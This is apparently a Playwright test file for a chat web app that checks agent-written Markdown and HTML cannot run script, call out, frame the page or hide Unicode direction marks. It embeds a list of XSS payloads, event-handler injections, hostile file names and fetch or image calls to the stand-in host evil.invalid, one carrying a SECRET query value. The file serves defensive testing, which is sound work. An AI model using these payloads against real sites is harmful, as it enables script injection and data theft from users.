"""Nothing that an agent says can run in the page, leave it, or pass for something else."""

import re

import pytest

pytest.importorskip("playwright")

HOSTILE = """
[a](javascript:alert(1)) [b](JaVaScRiPt&#58;alert(1)) [c](data:text/html;base64,PHNjcmlwdD4=)

![x](http://evil.invalid/p?d=SECRET) ![x](//evil.invalid/p) ![y][r]

[r]: http://evil.invalid/p

<img src=http://evil.invalid/p srcset="http://evil.invalid/p 1x" onerror="window.ran = 1">
<svg onload="window.ran = 1"><image href=http://evil.invalid/p></svg>
<link rel=prefetch href=http://evil.invalid/p><video poster=http://evil.invalid/p></video>
<div style="background:url(http://evil.invalid/p)">x</div>
<details ontoggle="window.ran = 1" open>x</details>
<form action=/api/sessions method=post><button>ok</button></form>
<base href=http://evil.invalid><iframe src="javascript:parent.ran = 1"></iframe>
<math><mtext><style><img src=x onerror="window.ran = 1"></style></mtext></math>
<script>window.ran = 1</script><script src=/docs></script><object data=/docs></object>

```"><img src=x onerror=window.ran=1>
code
```
"""


def live(page):
    page.locator("#link[data-state=live]").wait_for()
    return page


def ran(page):
    return page.evaluate("Boolean(window.ran)")


def test_what_an_agent_says_neither_runs_nor_phones_home(site, open_page):
    chat = site.chat('<img src=http://evil.invalid/t onerror="window.ran=1">')
    site.saying(chat, HOSTILE)
    for path in (f"/chats/{chat}", "/", "/health"):
        page = open_page(path)
        page.get_by_label("Search all chats").fill("evil")
        page.locator("a.hit").first.wait_for()
        assert not ran(page)
        assert page.foreign == page.problems == []
        assert page.locator("main form[action], main iframe, base, #main script").count() == 0


def test_the_policy_alone_would_have_stopped_it(site, open_page):
    """As if neither the reader of Markdown nor the sanitiser were there."""
    page = open_page()
    page.evaluate(
        """async (text) => {
            const box = document.createElement("div");
            box.innerHTML = text;
            document.getElementById("main").append(box);
            for (const old of box.querySelectorAll("script")) {
                const script = document.createElement("script");
                if (old.src) script.src = "http://evil.invalid/s.js"; else script.text = old.text;
                box.append(script);
            }
            for (const link of box.querySelectorAll("a")) link.click();
            const form = document.createElement("form");
            form.action = "http://evil.invalid/f";
            box.append(form);
            form.submit();
            try { await fetch("http://evil.invalid/x"); } catch { /* as it should */ }
            try { new WebSocket("ws://evil.invalid/x"); } catch { /* as it should */ }
            await new Promise((resolve) => setTimeout(resolve, 300));
        }""",
        '<a href="javascript:window.ran = 1">x</a>' + HOSTILE,
    )
    assert not ran(page)
    # The browser names what it blocks as a request too; none of them may have left it.
    assert not [url for url in page.foreign if not url.startswith("http://evil.invalid")]
    assert page.answered == []
    assert any("Content Security Policy" in problem for problem in page.problems)


def test_the_page_cannot_be_framed(site, open_page):
    page = open_page()
    page.route("**/frame-me", lambda route: route.fulfill(
        content_type="text/html", body=f'<iframe src="{site.url}/"></iframe>'
    ))  # fmt: skip
    page.goto("/frame-me")
    frame = page.frames[-1]
    assert frame.url.startswith("chrome-error:") or not frame.locator("#main").count()


def test_marks_that_deceive_are_seen(site, open_page):
    chat = site.chat("bad \u202e name")
    site.turn(chat, "[[fake show=marks]]")
    page = live(open_page(f"/chats/{chat}"))
    page.locator(".steps summary").first.click()
    line = page.locator(".tool .subject")
    assert line.locator(".mark").text_content() == "U+202E"
    page.locator(".tool summary").click()
    assert "U+001B" in page.locator(".tool .inside").text_content()
    assert "U+202E" in page.locator("#title").text_content()
    assert "\u202e" not in page.locator("body").inner_text()


def test_files_with_hostile_names_and_content_are_harmless(site, open_page):
    chat = site.chat("Hostile files")
    evil = b"<script>window.opener.ran = 1; fetch('http://evil.invalid')</script>"
    for name, kind in (
        ('"><img src=x onerror=window.ran=1>.html', "text/html"),
        ("gnp.\u202ehtml", "image/svg+xml"),
        ("x" * 300 + ".png", "image/png"),
    ):
        sent = site.http.post(f"/api/sessions/{chat}/files", files={"file": (name, evil, kind)})
        assert sent.status_code == 200, sent.text
    page = live(open_page(f"/chats/{chat}"))
    page.get_by_role("button", name="Files of this chat").click()
    page.locator("#files li").nth(2).wait_for()
    assert not ran(page)
    assert page.foreign == []
    with page.expect_download():
        page.locator("#files a").last.click()
    wide = page.evaluate("document.documentElement.scrollWidth <= innerWidth")
    assert wide


def test_each_view_has_the_policy_and_no_inline_code(site):
    chat = site.chat("Headers")
    site.turn(chat, "hello")
    for path in ("/", f"/chats/{chat}", "/health"):
        answer = site.http.get(path)
        assert answer.status_code == 200
        policy = answer.headers["content-security-policy"]
        assert "script-src 'self'" in policy
        assert "unsafe" not in policy
        assert answer.headers["x-frame-options"] == "DENY"
        assert " style=" not in answer.text
        assert " onclick" not in answer.text
        assert not re.findall(r'(?:src|href|action)="(?!/|data-)[^"]*//', answer.text)
